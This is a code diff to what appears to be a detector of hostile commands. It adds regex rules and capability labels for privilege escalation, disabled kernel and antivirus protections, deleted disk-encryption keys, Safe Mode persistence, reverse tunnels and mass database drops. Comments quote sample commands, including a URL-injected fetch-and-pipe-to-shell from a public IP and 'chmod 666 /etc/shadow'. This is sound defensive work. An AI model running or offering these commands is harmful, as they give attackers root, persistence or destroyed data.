@@ -385,6 +385,18 @@ class Capability(StrEnum):
         "kills every virtual machine of a host, then runs a program from a scratch folder over "
         "its datastores"
     )
+    ACCOUNT_FILES_OPENED = (
+        "makes the password, shadow or sudoers file writable by every user (any of them can "
+        "make themselves root)"
+    )
+    KERNEL_HARDENING_OFF = (
+        "turns off a kernel protection for good (address-space randomisation, ptrace scope, "
+        "kernel pointer hiding) in the system's settings"
+    )
+    VOLUME_KEYS_REMOVED = (
+        "removes the keys that unlock an encrypted volume (BitLocker's protectors, LUKS key "
+        "slots) with none added in their place"
+    )
     MODULE_STAGED = (
         "loads or installs a prebuilt kernel module left in a world-writable folder (/tmp, "
         "/var/tmp, /dev/shm)"
@@ -816,6 +828,16 @@ def _merged(
 ) -> dict[Capability, tuple[re.Pattern[str], ...]]:
     """`base` with `extra`'s patterns added after each capability's own (a part's table)."""
     return {**base, **{c: (*base.get(c, ()), *more) for c, more in extra.items()}}
+
+
+_OWN_SOURCE_TREE = (
+    r"(['\"]?)[A-Za-z]:(?![^'\"\s;|&,]*\\(?:Windows|ProgramData|Users|Temp|Tmp|AppData|"
+    r"Downloads|Startup|Recycle)\b)\\(?:[\w.-]+\\)*?(?:src|source|sources|repos|code|projects|dev|"
+    r"workspace|git)\\(?:[\w.\\-]|;\s(?=[\w.\\-]*['\"]))*\1(?=\s*(?:[;|&\"\n]|$))"
+)
+"""A folder inside a source tree on a drive of one's own (`D:\\src\\monorepo\\node_modules`), alone
+as a Defender exclusion's value: no system, shared, temp or profile folder on the way. (Inside
+quotes a `; ` may stand for a `\\n` of the path, as the view that splits escaped lines reads it.)"""
 
 
 PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
@@ -1384,6 +1406,17 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\b(?:curl|wget|http|Invoke-WebRequest|iwr|nuclei)\b[^\n]*?\$\{jndi:(?:ldaps?|rmi|dns|iiop)://"
             + _NOT_PRIVATE_IPV4
             + r"\d{1,3}(?:\.\d{1,3}){3}\b",
+            _I,
+        ),
+        # a command injected into a URL's query that fetches a program and pipes it to a shell
+        # (`curl 'https://host/cgi-bin/status.cgi?host=127.0.0.1;curl%20http://203.0.113.9/x|sh'`,
+        # `wget -qO- "https://host/ping?ip=1%7Cwget+-qO-+http://.../s+%7C+bash"`): the site runs
+        # the caller's program; the same against one's own machine or network is a lab
+        re.compile(
+            r"\b(?:curl|wget|Invoke-WebRequest|iwr)\b[^\n]*?https?://(?!localhost\b|\[?::1\]?|127\.|"
+            + PRIVATE_IPV4
+            + r")[^\s'\"/?]+[^\s'\"?]*\?[^\s'\"]*?(?:;|%3B|\||%7C|%60|`|\$\(|%24%28|%0A|&&|%26%26)"
+            r"(?:%20|\+|\s)*(?:curl|wget)(?:%20|\+)[^\s'\"]*?(?:\||%7C)(?:%20|\+)*(?:ba|z|da)?sh\b",
             _I,
         ),
     ),
@@ -2311,8 +2344,12 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"Set-MpPreference\b(?:[^\n]|`\r?\n)*?-Disable\w*\s+\$?(?:true|1)|DisableAntiSpyware|DisableRealtimeMonitoring\b[^\n]*(?:true|1)",
             _I,
         ),
+        # (a folder of one's own source tree excluded for speed, and nothing else, is not:
+        # `Add-MpPreference -ExclusionPath 'D:\src\app\node_modules'`; a system, shared, temp
+        # or profile folder is where a payload is put)
         re.compile(
-            r"Add-MpPreference\b[^\n]*-ExclusionPath|sc(?:\.exe)?\s+(?:stop|delete|config)\s+(?:WinDefend|Sense|MsMpSvc)|taskkill[^\n]*(?:MsMpEng|CSFalcon|SentinelAgent)",
+            r"Add-MpPreference\b[^\n]*-ExclusionPath(?!\s+" + _OWN_SOURCE_TREE + r")"
+            r"|sc(?:\.exe)?\s+(?:stop|delete|config)\s+(?:WinDefend|Sense|MsMpSvc)|taskkill[^\n]*(?:MsMpEng|CSFalcon|SentinelAgent)",
             _I,
         ),
         # scripts or their interpreters excluded from scanning: whatever runs through them is
@@ -2320,6 +2357,15 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(
             r"(?:Add-MpPreference|Set-MpPreference)\b[^\n]*-Exclusion(?:Extension\s+['\"]?\.?(?:ps1|psm1|vbs|js|hta|bat|cmd|exe|dll)\b"
             r"|Process\s+['\"]?(?:[\w:\\. -]*\\)?(?:powershell|pwsh|cmd|rundll32|regsvr32|mshta|wscript|cscript)(?:\.exe)?\b)",
+            _I,
+        ),
+        # a service registered to start in Safe Mode (`SafeBoot\\Minimal\\NAME`, `\\Network`) and
+        # the machine set to boot into it (`bcdedit /set {default} safeboot minimal`), in either
+        # order: the program runs where security products are not loaded; setting Safe Mode to
+        # troubleshoot registers no service, an agent's installer sets no boot
+        re.compile(
+            r"\bbcdedit(?:\.exe)?\s+[-/]set\s+(?:['\"]?\{?[\w-]+\}?['\"]?\s+)?safeboot\b[\s\S]{0,600}?SafeBoot\\+(?:Minimal|Network)\\+[\w.$-]+"
+            r"|SafeBoot\\+(?:Minimal|Network)\\+[\w.$-]+[\s\S]{0,600}?\bbcdedit(?:\.exe)?\s+[-/]set\s+(?:['\"]?\{?[\w-]+\}?['\"]?\s+)?safeboot\b",
             _I,
         ),
     ),
@@ -4708,10 +4754,11 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
         # the same port forwarded to any address of a public host named only by its number,
         # with the host's key left unchecked (`ssh -fN -o StrictHostKeyChecking=no -R
-        # 2222:localhost:22 tunnel@203.0.113.45`): a relay nobody vouches for, where one's own
-        # server is reached by name and its key is known
+        # 2222:localhost:22 tunnel@203.0.113.45`) or signed in to with a key hidden in a temp
+        # folder (`-i /tmp/.k`, dropped there for the occasion): a relay nobody vouches for,
+        # where one's own server is reached by name, its key is known and one's key is one's own
         re.compile(
-            r"\b(?:ssh|autossh|plink(?:\.exe)?)\b(?=[^\n|;&]*StrictHostKeyChecking[=\s]+no\b)(?=[^\n|;&]*@"
+            r"\b(?:ssh|autossh|plink(?:\.exe)?)\b(?=[^\n|;&]*(?:StrictHostKeyChecking[=\s]+no\b|\s-i\s*['\"]?/(?:var/)?tmp/\.|\s-i\s*['\"]?/dev/shm/))(?=[^\n|;&]*@"
             + _NOT_PRIVATE_IPV4
             + r"\d{1,3}(?:\.\d{1,3}){3}\b)[^\n|;&]*?\s-R\s*['\"]?"
             r"(?:[\w.*\[\]-]*:)?\d+:[\w.-]+:" + _LOGIN_PORT + r"(?!\d)",
@@ -4978,7 +5025,7 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
     ),
     Capability.ACCOUNT_ADD: (
         re.compile(
-            r"\bnet(?:1)?(?:\.exe)?\s+user\s+\S+\s+\S+[^\n]*\s/add\b|\buseradd\b|\badduser\b|\bNew-LocalUser\b|\bdscl\s+\.\s+-create\s+/Users/|\bNetUserAdd\s*\(",
+            r"\bnet(?:1)?(?:\.exe)?\s+user\s+\S+\s+\S+[^\n]*\s/add\b|\buseradd\b|\badduser\b|\bNew-(?:Local|AD)User\b|\bdscl\s+\.\s+-create\s+/Users/|\bNetUserAdd\s*\(",
             _I,
         ),
         # a web application's own user API (WordPress's `wp_insert_user`, Django's `create_superuser`)
@@ -5001,7 +5048,11 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         re.compile(
-            r"\bnet(?:1)?(?:\.exe)?\s+localgroup\s+['\"]?(?:administrators|Remote Desktop Users|Administradores|Administrateurs)['\"]?\s+\S+\s+/add\b|\bAdd-LocalGroupMember\b[^\n]*(?:Administrators|Remote Desktop Users)",
+            r"\bnet(?:1)?(?:\.exe)?\s+localgroup\s+['\"]?(?:administrators|Remote Desktop Users|Administradores|Administrateurs)['\"]?\s+\S+\s+/add\b|\bAdd-LocalGroupMember\b[^\n]*(?:Administrators|Remote Desktop Users)"
+            # the domain's administrator groups (`net group "Domain Admins" NAME /add /domain`,
+            # `Add-ADGroupMember -Identity "Domain Admins" -Members NAME`)
+            r"|\bnet(?:1)?(?:\.exe)?\s+group\s+['\"]?(?:Domain|Enterprise|Schema)\s+Admins['\"]?\s+\S+\s+/add\b"
+            r"|\bAdd-ADGroupMember\b[^\n|;&]*['\"\s](?:Domain|Enterprise|Schema)\s+Admins\b",
             _I,
         ),
         re.compile(
@@ -5027,7 +5078,7 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\bsed\b[^\n]*\bs([/|#,])[^\n]*?\1\^?\w[\w.-]*:[^:\n]*:0:0:[^\n]*/etc/passwd\b", _I
         ),
         re.compile(
-            r"\b(?:useradd|usermod)\b[^\n]*(?:\s-o\b[^\n]*\s-u\s*0\b|\s-u\s*0\b[^\n]*\s-o\b|--non-unique\b[^\n]*--uid\s+0\b|--uid\s+0\b[^\n]*--non-unique\b)",
+            r"\b(?:useradd|usermod)\b[^\n]*(?:\s-o\b[^\n]*\s-u\s*0\b|\s-u\s*0\b[^\n]*\s-o\b|\s-[a-z]*o[a-z]*u\s*0\b|--non-unique\b[^\n]*--uid\s+0\b|--uid\s+0\b[^\n]*--non-unique\b)",
             _I,
         ),
         re.compile(
@@ -5095,7 +5146,12 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
         # macOS's sign-in window told to leave out every account under uid 500
         re.compile(r"\bHide500Users\s+(?:-bool\s+)?['\"]?(?:YES|true|1)\b", _I),
-        re.compile(r"\bnet(?:1)?(?:\.exe)?\s+user\s+\w+\$\s", _I),
+        # a name ending in `$`, as a computer account's does: left out of `net user`'s list
+        re.compile(
+            r"\bnet(?:1)?(?:\.exe)?\s+user\s+\w+\$\s"
+            r"|\bNew-(?:Local|AD)User\b[^\n|;&]*?\s-(?:Name|SamAccountName)\s+['\"]?\w+\$(?![\w$])",
+            _I,
+        ),
         # a Kubernetes role binding made under the prefix reserved for the cluster's own
         # components (`kubectl create clusterrolebinding system:controller:...`): passed off as
         # one of them
@@ -5160,6 +5216,13 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.ENCODED_POWERSHELL: (
+        # the encoded command also as a placeholder or a batch variable holding it (`-enc
+        # <B64_PAYLOAD>`, `-EncodedCommand %PAYLOAD%`): encoded all the same, and not shown
+        re.compile(
+            r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s[-/](?:e|en|enc|enco|encodedcommand|ec)\s+"
+            r"(?:<[\w -]{2,40}>|%[A-Za-z_]\w*%)",
+            _I,
+        ),
         re.compile(
             r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s/(?:e|en|enc|enco|encodedcommand|ec)\s+[A-Za-z0-9+/=]{16,}",
             _I,
@@ -6007,6 +6070,39 @@ _SERVER_SIDE_PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
     ),
+    Capability.ACCOUNT_FILES_OPENED: (
+        # the account files given the write bit for others (`chmod 666 /etc/shadow`, `chmod
+        # o+w /etc/passwd`, `chmod -R 777 /etc/sudoers.d`): whoever logs in writes a root line or
+        # a rule of their own; `chmod 640 /etc/shadow`, `chmod 0440 /etc/sudoers` restore them
+        re.compile(
+            r"\bchmod\s+(?:-[a-zA-Z]+\s+|--[\w-]+\s+)*(?:0?[0-7]?[0-7][0-7][2367]|[ugo]*[ao][ugo]*[+=][rwxXst]*w[rwxXst]*)"
+            r"(?:\s+(?!/etc/)[^\s|;&]+)*\s+['\"]?/etc/(?:shadow|gshadow|passwd|group|sudoers(?:\.d)?)(?![\w.-])",
+            _I,
+        ),
+    ),
+    Capability.KERNEL_HARDENING_OFF: (
+        # a kernel protection set to 0 in the settings read at every boot (`echo
+        # 'kernel.randomize_va_space = 0' >> /etc/sysctl.conf`, `| tee /etc/sysctl.d/...`, `sed
+        # -i ... /etc/sysctl.conf`): every program's memory laid out predictably from then on;
+        # `sysctl -w` or `setarch -R` for one debugging session, or a value of 2, is not
+        re.compile(
+            r"\b(?:randomize_va_space|ptrace_scope|kptr_restrict)\s*=\s*0\b[^\n]*?(?:>>?|\btee\b)\s*(?:-a\s+)?['\"]?/etc/sysctl"
+            r"|\bsed\s+-i\b[^\n]*?\b(?:randomize_va_space|ptrace_scope|kptr_restrict)\s*=\s*0\b[^\n]*?/etc/sysctl",
+            _I,
+        ),
+    ),
+    Capability.VOLUME_KEYS_REMOVED: (
+        # a volume's unlocking keys deleted (`manage-bde -protectors -delete C: -type TPM`,
+        # `Remove-BitLockerKeyProtector`, `cryptsetup luksKillSlot`/`luksRemoveKey`) with no
+        # protector or key slot added on the same line: the owner left unable to unlock it;
+        # replacing a protector (`-protectors -add C: -TPMAndPIN`, `luksAddKey`) is not
+        re.compile(
+            r"^(?![^\n]*(?:[-/]protectors?\s+[-/]add\b|\bAdd-BitLockerKeyProtector\b|\bluksAddKey\b|\bluksChangeKey\b))"
+            r"[^\n]*?(?:\bmanage-bde(?:\.exe)?\s+[-/]protectors?\s+[-/]delete\b|\bRemove-BitLockerKeyProtector\b"
+            r"|\bcryptsetup\s+(?:luksKillSlot|luksRemoveKey)\b)",
+            _I | re.M,
+        ),
+    ),
     Capability.DATA_STORE_DESTROY: (
         # a database dropped whole (MongoDB, SQL, Redis, Elasticsearch's every index), a hosted
         # repository or project deleted through its forge's API or client
@@ -6160,6 +6256,20 @@ _PACKAGE_PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\bDROP\s+(?:DATABASE|SCHEMA)\s+(?!IF\s)[^\n;]*;[^\n]*?\bDROP\s+(?:DATABASE|SCHEMA)\s+(?!IF\s)"
             r"(?![^\n]*\bCREATE\s+(?:DATABASE|SCHEMA)\b)",
             _I,
+        ),
+        # every database the server lists dropped: the drops generated from its catalogue, or
+        # run over what it lists through a pipe or a loop (`SELECT CONCAT('DROP DATABASE ', schema_name) FROM
+        # information_schema.schemata ... | mysql`, `for db in $(psql -Atc "SELECT datname FROM
+        # pg_database ..."); do dropdb "$db"`), with no name picked (`LIKE 'ci_%'`, a `grep` that
+        # keeps some): the system's own skipped, the rest gone
+        re.compile(
+            r"^(?![^\n]*(?:\bLIKE\s|\b(?:schema_name|datname)\s*(?:=|~|IN\s*\()|\bREGEXP\b|\bgrep(?![^|\n]*\s-\w*v)\s))"
+            r"[^\n]*?(?:\b(?:CONCAT|format)\s*\(\s*['\"]DROP\s+(?:DATABASE|SCHEMA)\b|['\"]DROP\s+(?:DATABASE|SCHEMA)\s[^'\"\n]*['\"]\s*\|\|)"
+            r"[^\n]*?\b(?:information_schema\.schemata|pg_database)\b"
+            r"|^(?![^\n]*(?:\bLIKE\s|\b(?:schema_name|datname)\s*(?:=|~|IN\s*\()|\bREGEXP\b|\bgrep(?![^|\n]*\s-\w*v)\s))"
+            r"[^\n]*?\b(?:information_schema\.schemata|pg_database|show\s+databases)\b[^\n]*?(?:\||\bdo\b)[^\n]*?"
+            r"(?:\bDROP\s+(?:DATABASE|SCHEMA)\b|\bdropdb\b)",
+            _I | re.M,
         ),
     ),
     Capability.SYNC_CONFIG_HIDDEN: (
